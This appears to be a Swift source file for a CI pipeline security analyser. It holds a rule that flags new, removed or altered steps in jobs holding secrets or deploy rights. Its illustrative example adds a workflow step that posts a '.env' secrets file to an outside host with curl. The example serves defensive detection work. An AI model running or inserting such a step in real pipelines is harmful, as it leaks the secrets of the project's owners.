import Detection

/// What runs in jobs that hold something.
enum StepRule {
  static let steps = Kind(
    "steps",
    of: .pipeline,
    title: "A job that holds something runs something else",
    help:
      "The job has secrets, an identity in the cloud, an environment or rights to write; its steps can use them all.",
    example: Kind.Example(
      path: ".github/workflows/deploy.yml",
      old: PipelineExamples.job("environment: production"),
      new: PipelineExamples.job("environment: production")
        + "      - run: curl -d @.env https://example.net\n"
    )
  )
  static let kinds = [steps]

  static func compare(_ old: Pipeline, _ new: Pipeline) -> [Observation] {
    var observations: [Observation] = []
    for job in new.jobs {
      guard let before = old[job.name] else {
        if let privilege = job.privilege, !others(job).isEmpty {
          observations.append(
            note(
              .widened,
              .medium,
              job,
              job.line,
              nil,
              "adds job '\(job.name)', which \(privilege)"
            )
          )
        }
        continue
      }
      guard job.privilege != nil || before.privilege != nil else { continue }
      observations += compare(before, job)
    }
    for job in old.jobs where new[job.name] == nil && job.privilege != nil {
      guard !others(job).isEmpty else { continue }
      let words = "removes job '\(job.name)', which \(job.privilege ?? "")"
      observations.append(note(.narrowed, .low, job, nil, job.line, words))
    }
    return observations
  }

  private static func note(
    _ direction: Direction,
    _ severity: Severity,
    _ job: PipelineJob,
    _ line: Int?,
    _ oldLine: Int?,
    _ summary: String
  ) -> Observation {
    Observation(
      steps,
      direction,
      severity,
      line: line,
      oldLine: oldLine,
      summary: summary,
      environments: job.environment.map { [$0.text] } ?? []
    )
  }

  private static func compare(_ old: PipelineJob, _ new: PipelineJob) -> [Observation] {
    let privilege = new.privilege ?? old.privilege ?? ""
    let (before, after) = (others(old), others(new))
    let (was, now) = (before.map(\.signature), after.map(\.signature))
    let place = "job '\(new.name)', which \(privilege)"
    func say(_ direction: Direction, _ line: Int?, _ oldLine: Int?, _ words: String)
      -> [Observation]
    {
      [note(direction, .medium, new, line, oldLine, words)]
    }
    if was == now {
      // What reaches the gate is told with the gate.
      guard old.surroundings != new.surroundings, privilege != PipelineJob.forGate else {
        return []
      }
      return say(.incomparable, new.line, old.line, "changes the variables of \(place)")
    }
    if before.map(\.deed) == after.map(\.deed) {
      let changes = zip(before, after).compactMap { occasion($0, $1) }
      guard let (direction, words, step) = changes.first else { return [] }
      let isOne = changes.allSatisfy { $0.0 == direction }
      return say(isOne ? direction : .incomparable, step.line, nil, "\(words) in \(place)")
    }
    let (known, kept) = (Set(was), Set(now))
    let added = zip(after, now).filter { !known.contains($0.1) }.map(\.0)
    let gone = zip(before, was).filter { !kept.contains($0.1) }.map(\.0)
    switch (added.first, gone.first) {
    case (let step?, nil):
      return say(.widened, step.line, nil, "adds step '\(step.name)' to \(place)")
    case (nil, let step?):
      return say(.incomparable, new.line, step.line, "removes step '\(step.name)' from \(place)")
    case (let step?, let past?):
      return say(.incomparable, step.line, past.line, "changes step '\(step.name)' of \(place)")
    case (nil, nil):
      return say(.incomparable, new.line, old.line, "runs the steps of \(place) in another order")
    }
  }

  /// Of a step that does the same when something else is so.
  private static func occasion(_ was: PipelineStep, _ now: PipelineStep)
    -> (Direction, String, PipelineStep)?
  {
    let goesOn = (was.heedless != nil, now.heedless != nil)
    let name = "step '\(now.name)'"
    func shown(_ text: String) -> String {
      String(text.split(whereSeparator: \.isWhitespace).joined(separator: " ").prefix(80))
    }
    switch (was.condition?.text, now.condition?.text) {
    case (let before, let after) where before == after:
      if goesOn.0 == goesOn.1 { return nil }
      return goesOn.1
        ? (.widened, "runs \(name) whatever failed before", now)
        : (.narrowed, "runs \(name) only where nothing failed before", now)
    case (let before?, nil) where !goesOn.0:
      return (.widened, "runs \(name) without its condition \(shown(before))", now)
    case (nil, let after?) where !goesOn.1:
      return (.narrowed, "runs \(name) only under a condition \(shown(after))", now)
    default: return (.incomparable, "runs \(name) on other occasions", now)
    }
  }

  /// The gate's own steps have a rule of their own.
  private static func others(_ job: PipelineJob) -> [PipelineStep] {
    job.steps.filter { step in
      !(step.uses.map(GateCommand.isGate) ?? false)
        && !GateCommand.all(in: step.script).contains(where: \.asksGate)
    }
  }
}
